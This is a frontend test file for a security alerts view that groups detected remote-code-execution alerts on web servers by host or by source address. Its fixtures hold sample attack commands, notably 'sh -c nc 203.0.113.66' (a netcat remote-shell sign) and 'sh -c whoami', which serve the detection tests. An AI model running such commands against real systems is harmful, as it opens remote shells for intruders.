// @vitest-environment jsdom
import { cleanup, screen, waitFor, within } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { toListedAlert, type ListedAlert } from '../../../common/alert/listed_alert';
import type { AlertGroup, AlertGroups, GroupKey } from '../../../common/api/groups/group_alerts';
import type { Answers } from '../../../test/browser_app/fake_http';
import { renderApp, type RenderedApp } from '../../../test/browser_app/render_app';
import { toPage, toSampleAlert } from '../../../test/browser_app/sample_alerts';

afterEach(cleanup);

const FIND = 'POST /internal/web_server_rce/alerts/_find';
const GROUP = 'POST /internal/web_server_rce/alerts/_group';
const STATUS = 'POST /internal/web_server_rce/alerts/_status';
const [SAMPLE] = toPage([toSampleAlert()]).alerts;

const toGroup = (
  part: Partial<AlertGroup> = {},
  key: GroupKey = { host: 'web-01', server: 'php-fpm8.2' }
): AlertGroup => ({
  ...{ ...key, count: 14 },
  from: '2026-11-24T02:57:00.000Z',
  to: '2026-11-24T02:58:00.000Z',
  gravest: { ...(SAMPLE ?? toListedAlert({})), command: 'sh -c nc 203.0.113.66' },
  signKinds: ['shell', 'download'],
  ...part,
});

const renderGroups = (answers: Answers = {}): RenderedApp =>
  renderApp({
    path: '/?group=server',
    answers: {
      [GROUP]: (): AlertGroups => ({
        groups: [toGroup({}), toGroup({ count: 1 }, { host: 'web-02', server: 'apache2' })],
        total: 16,
        ungrouped: 1,
      }),
      ...answers,
    },
  });

test('a server is one row: how many alerts, how grave, the gravest command, its signs, and when', async () => {
  renderGroups();
  const [first, second] = await screen.findAllByTestId('webServerRceGroupRow');
  for (const text of ['web-01', 'php-fpm8.2', '14 alerts', 'High', 'sh -c nc 203.0.113.66']) {
    expect(first?.textContent).toContain(text);
  }
  for (const text of ['Remote shell', 'Download', '02:58:00', 'over 1 min']) {
    expect(first?.textContent).toContain(text);
  }
  expect(second?.textContent).toContain('1 alert');
  expect(
    screen.getByText(
      '2 servers, 16 alerts · 1 alert names no host or no server: see them as alerts'
    )
  ).toBeDefined();
});

test('is chosen by a switch that the address keeps, and left by it', async () => {
  const { user, history } = renderApp({
    answers: { [GROUP]: () => ({ groups: [toGroup({})], total: 14, ungrouped: 0 }) },
  });
  await user.click(await screen.findByTestId('webServerRceGroup-server'));
  await screen.findByTestId('webServerRceGroupRow');
  expect(history.location.search).toBe('?group=server');
  await user.click(screen.getByTestId('webServerRceGroup-none'));
  await screen.findByTestId('webServerRceAlertRow');
  expect(history.location.search).toBe('');
});

test('opens with Enter to the alerts of that server, and the arrows pass over them', async () => {
  const { user, http } = renderGroups();
  const [first, second] = await screen.findAllByTestId('webServerRceGroupRow');
  first?.focus();
  await user.keyboard('{Enter}');
  const list = await screen.findByTestId('webServerRceGroupAlerts');
  expect(await within(list).findByText('sh -c whoami')).toBeDefined();
  expect(http.bodies(FIND).at(-1)).toMatchObject({
    ...{ hosts: ['web-01'], servers: ['php-fpm8.2'], perPage: 10 },
  });
  await user.keyboard('{ArrowDown}');
  expect(document.activeElement).toBe(second);
  await user.keyboard('{ArrowUp}{Enter}');
  await waitFor(() => expect(screen.queryByTestId('webServerRceGroupAlerts')).toBeNull());
});

test('closes all alerts of the ticked servers, those of each by its own filter', async () => {
  const found = toPage([toSampleAlert()]);
  const { user, http } = renderGroups({
    [FIND]: () => found,
    [STATUS]: () => ({ ids: found.alerts.map(({ id }) => id) }),
  });
  const rows = await screen.findAllByTestId('webServerRceGroupRow');
  for (const row of rows) await user.click(within(row).getByRole('checkbox'));
  expect(screen.getByText('15 alerts selected')).toBeDefined();
  await user.click(screen.getByTestId('webServerRceBulk-closed'));
  await waitFor(() => expect(http.bodies(STATUS)).toHaveLength(2));
  const filters = http.bodies(FIND).filter((body) => (body as { perPage: number }).perPage === 100);
  expect(filters).toMatchObject([
    { hosts: ['web-01'], servers: ['php-fpm8.2'], statuses: ['open', 'acknowledged'] },
    { hosts: ['web-01'], servers: ['php-fpm8.2'] },
    { hosts: ['web-02'], servers: ['apache2'], statuses: ['open', 'acknowledged'] },
    { hosts: ['web-02'], servers: ['apache2'] },
  ]);
});

test('keeps the opened servers in the address, without a step back for each', async () => {
  const { user, history, http } = renderGroups();
  await user.click((await screen.findAllByTestId('webServerRceOpenGroup'))[1] as HTMLElement);
  await screen.findByTestId('webServerRceGroupAlerts');
  expect(new URLSearchParams(history.location.search).getAll('open')).toEqual([
    '["web-02","apache2"]',
  ]);
  expect(history).toHaveLength(1);
  // Neither the groups nor the list's own page are asked for again.
  expect(http.bodies(GROUP)).toHaveLength(1);
});

test('opens the servers that the address names, and minds no other name', async () => {
  const open = new URLSearchParams([
    ['group', 'server'],
    ['open', '["web-01","php-fpm8.2"]'],
    ['open', 'nonsense'],
  ]);
  renderApp({
    path: `/?${open}`,
    answers: { [GROUP]: () => ({ groups: [toGroup({})], total: 14, ungrouped: 0 }) },
  });
  expect(await screen.findAllByTestId('webServerRceGroupAlerts')).toHaveLength(1);
});

test('tells from which addresses the alerts of an opened server came, the most frequent first', async () => {
  const ids = ['a', 'b', 'c', 'd'];
  const { user } = renderGroups({
    [FIND]: () => toPage(ids.map((id) => toSampleAlert({ id }))),
    'GET /internal/web_server_rce/alerts/*/requests': ({ path, query }) => {
      expect(query).toEqual({ minutes: 1 });
      const id = path.split('/').at(-2);
      if (id === 'd') return { ranked: [], total: 0, ofSameAddress: 0, logs: [], unread: [] };
      const address = id === 'a' ? '198.51.100.7' : '203.0.113.66';
      return { ranked: [{ request: { address }, clues: [], gap: 0 }] };
    },
  });
  await user.click((await screen.findAllByTestId('webServerRceOpenGroup'))[0] as HTMLElement);
  await waitFor(() =>
    expect(screen.getByTestId('webServerRceGroupSource').textContent).toBe(
      'Likeliest sources, by the access log: 203.0.113.66 (2 alerts), 198.51.100.7 (1 alert)'
    )
  );
});

const SOURCES = {
  groups: [toGroup({}, { source: '203.0.113.66' }), toGroup({ count: 2 }, { source: 'unknown' })],
  ...{ total: 16, ungrouped: 0 },
};

test('groups by source as well: each address a row, what is not certain one that says so', async () => {
  const { user, http, history } = renderApp({ answers: { [GROUP]: () => SOURCES } });
  await user.click(await screen.findByTestId('webServerRceGroup-source'));
  const [first, second] = await screen.findAllByTestId('webServerRceGroupRow');
  expect(first?.textContent).toContain('203.0.113.66 14 alerts');
  expect(second?.textContent).toContain('Source not certain 2 alerts');
  expect(screen.getByText('1 source, 16 alerts')).toBeDefined();
  expect(http.bodies(GROUP)).toMatchObject([{ by: 'source', sources: [] }]);
  first?.focus();
  await user.keyboard('{Enter}');
  await screen.findByTestId('webServerRceGroupAlerts');
  expect(http.bodies(FIND).at(-1)).toMatchObject({ sources: ['203.0.113.66'], hosts: [] });
  await user.click(screen.getByRole('button', { name: 'Only this source in the list' }));
  await screen.findByTestId('webServerRceAlertRow');
  expect(history.location.search).toBe('?source=203.0.113.66');
});

test('asks no log for an alert that holds its address, and names that address with the likeliest ones', async () => {
  const request = { time: '2026-11-24T02:58:00.000Z', address: '203.0.113.66' };
  const [held, other] = toPage([toSampleAlert({ id: 'a', request }), toSampleAlert({ id: 'b' })])
    .alerts as [ListedAlert, ListedAlert];
  const asked: string[] = [];
  const { user } = renderGroups({
    [FIND]: () => toPage([], { alerts: [{ ...held, source: request.address }, other], total: 2 }),
    'GET /internal/web_server_rce/alerts/*/requests': ({ path }) => {
      asked.push(path);
      return { ranked: [{ request: { address: '203.0.113.66' }, clues: [], gap: 0 }] };
    },
  });
  await user.click((await screen.findAllByTestId('webServerRceOpenGroup'))[0] as HTMLElement);
  await waitFor(() =>
    expect(screen.getByTestId('webServerRceGroupSource').textContent).toContain(
      '203.0.113.66 (2 alerts)'
    )
  );
  expect(asked).toEqual(['/internal/web_server_rce/alerts/b/requests']);
});
